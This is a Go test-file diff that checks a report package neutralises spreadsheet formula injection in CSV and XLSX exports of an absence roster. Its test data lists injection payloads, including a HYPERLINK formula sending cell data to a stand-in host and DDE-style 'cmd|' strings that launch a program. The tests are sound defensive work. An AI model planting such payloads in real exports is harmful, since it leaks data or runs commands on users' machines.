@@ -2,6 +2,7 @@ package report_test
 
 import (
 	"bytes"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -211,4 +212,79 @@ func isNumber(t *testing.T, f *excelize.File, sheet, cell string) bool {
 		t.Fatal(err)
 	}
 	return typ == excelize.CellTypeUnset || typ == excelize.CellTypeNumber
+}
+
+// formulaTexts are texts a head or a roster could carry that a spreadsheet
+// would run as a formula, one per leading character OWASP lists.
+var formulaTexts = []string{
+	`=HYPERLINK("http://x.example/?"&A2,"Bấm vào đây")`,
+	"+84912345678",
+	"-2+3+cmd|' /C calc'!A0",
+	"@SUM(1+1)*cmd|' /C calc'!A0",
+	"\t=1+1",
+	"\r=1+1",
+}
+
+func formulaTable() report.Table {
+	tb := report.Table{Name: "absent", Columns: []string{"full_name", "reason", "n", "d"}}
+	for i, f := range formulaTexts {
+		// The numbers beside them stay numbers, negative ones included.
+		tb.Rows = append(tb.Rows, []any{f, "nghỉ " + f, -i, report.Decimal{Scaled: int64(-15 * i), Places: 1}})
+	}
+	return tb
+}
+
+func TestReportCSVNeutralisesFormulas(t *testing.T) {
+	var b bytes.Buffer
+	if err := report.WriteCSV(&b, formulaTable(), false); err != nil {
+		t.Fatal(err)
+	}
+	// Each text cell that starts with one of them gets an apostrophe; one
+	// that merely contains it is left alone, and so are the numbers.
+	want := "full_name,reason,n,d\n" +
+		`"'=HYPERLINK(""http://x.example/?""&A2,""Bấm vào đây"")","nghỉ =HYPERLINK(""http://x.example/?""&A2,""Bấm vào đây"")",0,0.0` + "\n" +
+		"'+84912345678,nghỉ +84912345678,-1,-1.5\n" +
+		"'-2+3+cmd|' /C calc'!A0,nghỉ -2+3+cmd|' /C calc'!A0,-2,-3.0\n" +
+		"'@SUM(1+1)*cmd|' /C calc'!A0,nghỉ @SUM(1+1)*cmd|' /C calc'!A0,-3,-4.5\n" +
+		"'\t=1+1,nghỉ \t=1+1,-4,-6.0\n" +
+		"\"'\r=1+1\",\"nghỉ \r=1+1\",-5,-7.5\n"
+	if b.String() != want {
+		t.Errorf("csv =\n%q\nwant\n%q", b.String(), want)
+	}
+}
+
+func TestReportXLSXWritesFormulasAsText(t *testing.T) {
+	var b bytes.Buffer
+	if err := report.WriteXLSX(&b, formulaTable()); err != nil {
+		t.Fatal(err)
+	}
+	f, err := excelize.OpenReader(&b)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	for i, tx := range formulaTexts {
+		for col, want := range map[string]string{"A": tx, "B": "nghỉ " + tx} {
+			cell := col + strconv.Itoa(i+2)
+			typ, err := f.GetCellType("absent", cell)
+			if err != nil {
+				t.Fatal(err)
+			}
+			formula, err := f.GetCellFormula("absent", cell)
+			if err != nil {
+				t.Fatal(err)
+			}
+			v, err := f.GetCellValue("absent", cell, excelize.Options{RawCellValue: true})
+			if err != nil {
+				t.Fatal(err)
+			}
+			// Shown as typed: the cell is text, so nothing runs.
+			if typ != excelize.CellTypeInlineString || formula != "" || v != want {
+				t.Errorf("%s: type %v, formula %q, value %q; want inline text %q and no formula", cell, typ, formula, v, want)
+			}
+		}
+		if !isNumber(t, f, "absent", "C"+strconv.Itoa(i+2)) || !isNumber(t, f, "absent", "D"+strconv.Itoa(i+2)) {
+			t.Errorf("row %d: the numbers are not numbers", i+2)
+		}
+	}
 }
